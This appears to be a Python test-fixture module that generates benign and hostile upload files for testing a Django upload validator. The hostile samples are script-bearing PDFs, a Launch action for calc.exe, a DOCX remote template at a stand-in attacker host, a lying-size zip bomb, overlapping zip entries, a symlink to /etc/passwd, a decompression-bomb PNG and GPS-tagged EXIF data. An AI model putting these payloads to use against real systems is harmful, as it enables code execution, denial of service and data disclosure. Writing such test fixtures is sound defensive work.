"""Files to upload: honest ones and hostile ones, made on the spot."""

import io
import struct
import zipfile
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sheet.main+xml"/></Types>'
)
SCRIPT = b"<script>alert(1)</script>"


def upload(name, data):
    return SimpleUploadedFile(name, data)


def image(form="JPEG", size=(64, 48), mode="RGB", colour=(200, 30, 40), **options):
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, format=form, **options)
    return out.getvalue()


def phone_photo():
    """A 64 x 48 photo taken upright: orientation 6, GPS, camera and a maker's trailer behind the picture."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x0110] = "KameraRahasia"
    exif.get_ifd(0x8825).update({1: "S", 2: (6.0, 53.0, 19.0), 3: "E", 4: (109.0, 40.0, 30.0)})
    return image(exif=exif.tobytes()) + b"SEFH-trailer-samsung"


def png_header(width, height):
    """A PNG that announces huge sides and has hardly any data."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100))
        + chunk(b"IEND", b"")
    )


def pdf(pages=1, change=None, **options):
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **({} if "encryption" in options else {"deterministic_id": True}), **options)
    return out.getvalue()


def pdf_with_script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def pdf_with_launch(document):
    document.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 9, 9],
                A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"),
            )
        ]
    )


def pdf_with_attachment(document):
    document.attachments["virus.exe"] = b"MZ"


def pdf_with_form_script(document):
    document.Root.AcroForm = document.make_indirect(
        pikepdf.Dictionary(
            Fields=[], XFA=pikepdf.Stream(document, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        )
    )


def package(members, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx(extra=None, content_types=CONTENT_TYPES):
    return package(
        {"[Content_Types].xml": content_types, "xl/workbook.xml": "<workbook/>"} | (extra or {}),
    )


def docx(extra=None):
    return package({"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>"} | (extra or {}))


def odf(kind):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        archive.writestr("content.xml", "<office/>")
    return out.getvalue()


def xlsx_with_template():
    target = 'Type="http://x/attachedTemplate" Target="http://jahat.example/a.dotm" TargetMode="External"'
    return docx({"word/_rels/settings.xml.rels": f"<Relationships><Relationship {target}/></Relationships>"})


def lying_bomb():
    """A package whose directory announces 10 bytes for a member that inflates to 60 MB."""
    data = bytearray(xlsx({"xl/besar.xml": b"0" * (60 * 1024 * 1024)}))
    real = struct.pack("<I", 60 * 1024 * 1024)
    while (place := data.find(real)) >= 0:
        data[place : place + 4] = struct.pack("<I", 10)
    return bytes(data)


def overlapping():
    """Two directory entries that share one local member."""
    data = bytearray(xlsx({"a.xml": b"1" * 2000, "b.xml": b"1" * 2000}))
    entries = []
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        entries.append(place)
        place = data.find(b"PK\x01\x02", place + 4)
    first, second = entries[-2:]
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def encrypted_package():
    data = bytearray(xlsx())
    place = data.find(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def symlink_package():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", "<workbook/>")
        link = zipfile.ZipInfo("xl/tautan")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()
